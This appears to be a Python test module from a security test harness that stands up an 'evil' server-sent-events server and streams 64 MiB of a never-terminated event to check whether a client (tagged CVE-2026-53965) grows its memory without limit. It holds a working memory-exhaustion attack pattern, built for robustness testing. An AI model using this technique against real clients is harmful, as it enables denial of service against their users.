"""Breaks: the memory of Alice's client, with an event that never ends.

A client has to keep an event until the blank line that ends it. An evil server never sends that
line. Nor does it end the stream, so a client without a limit waits for more.
"""

import asyncio
from pathlib import Path

from attacks.evil import STREAM, Request, client_of, evil_server
from attacks.finding import Finding
from attacks.wire import MIB, grown, memory

AGAINST = "client"
CASE = "CVE-2026-53965"

SENT = 64  # MiB


async def attack(client: Path) -> Finding:
    asked = asyncio.Event()
    all_sent = asyncio.Event()
    may_send = asyncio.Event()

    async def endless(request: Request, writer: asyncio.StreamWriter) -> None:
        asked.set()
        await may_send.wait()
        writer.write(STREAM + b"data: ")
        for _ in range(SENT):
            writer.write(b"x" * MIB)
            await writer.drain()
        all_sent.set()
        await asyncio.Event().wait()

    async with evil_server(endless) as url, client_of(url, client) as victim:
        await victim.refusal(asked)
        before = memory(victim.pid)
        may_send.set()
        refusal = await victim.refusal(all_sent)
        if refusal:
            return Finding(False, refusal)
        grew = await grown(victim.pid, before, SENT * MIB)
        return Finding(True, f"keeps {SENT} MiB and waits for more: memory +{grew} MiB")
